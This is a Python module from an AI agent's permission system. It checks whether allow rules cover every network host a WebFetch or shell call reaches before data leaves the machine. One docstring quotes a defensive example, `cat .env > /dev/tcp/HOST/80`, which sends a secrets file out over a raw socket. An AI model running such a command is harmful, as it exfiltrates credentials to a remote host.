"""What allow rules say about the hosts a call reaches.

Data never leaves the machine without a question unless an allow rule covers the host: a
`WebFetch(domain:...)` rule for each host, or rules covering the whole shell command
(destination included). Hosts that rules name exactly (no wildcard) are the only local or
private addresses WebFetch may reach.
"""

from __future__ import annotations

from collections.abc import Iterable

from agent.permissions.classify import Classification
from agent.permissions.rules import Rule, domain_matches


def reaches_network(c: Classification) -> bool:
    """Whether the call contacts a host, named or known only when it runs."""
    return bool(c.hosts) or bool(c.unknown_hosts)


def hosts_covered(allow: list[Rule], hosts: Iterable[str]) -> bool:
    """Whether a `WebFetch(domain:...)` allow rule covers each of ``hosts``."""
    fetch_rules = [r.specifier for r in allow if r.tool == "WebFetch" and r.specifier]
    return all(any(domain_matches(spec, host) for spec in fetch_rules) for host in hosts)


def sockets_named(allow: list[Rule], c: Classification) -> bool:
    """Whether an allow rule names every host a shell redirection connects to: a rule
    for `cat *` approves cat, not `cat .env > /dev/tcp/HOST/80`."""
    return hosts_covered(allow, c.socket_hosts)


def network_ruled(allow: list[Rule], c: Classification, command_ruled: bool) -> bool:
    """Whether allow rules cover the hosts a call reaches: a WebFetch rule for each host,
    or (``command_ruled``) rules covering each part of the command, with every
    redirection socket named."""
    if not sockets_named(allow, c):
        return False
    if command_ruled:
        return True
    return bool(c.hosts) and not c.unknown_hosts and hosts_covered(allow, c.hosts)


def named_hosts(allow: list[Rule], tool: str) -> frozenset[str]:
    """The hosts `WebFetch(domain:...)` allow rules name exactly, for a WebFetch call."""
    return frozenset(
        r.specifier.removeprefix("domain:").strip()
        for r in allow
        if tool == r.tool == "WebFetch" and r.specifier and "*" not in r.specifier
    )


def why_network(c: Classification) -> str:
    """Why a call that contacts hosts asks."""
    where = ", ".join([*c.hosts, *(["hosts known only when it runs"] * c.unknown_hosts)])
    return f"{c.summary}: data can leave this machine; no allow rule covers {where}"
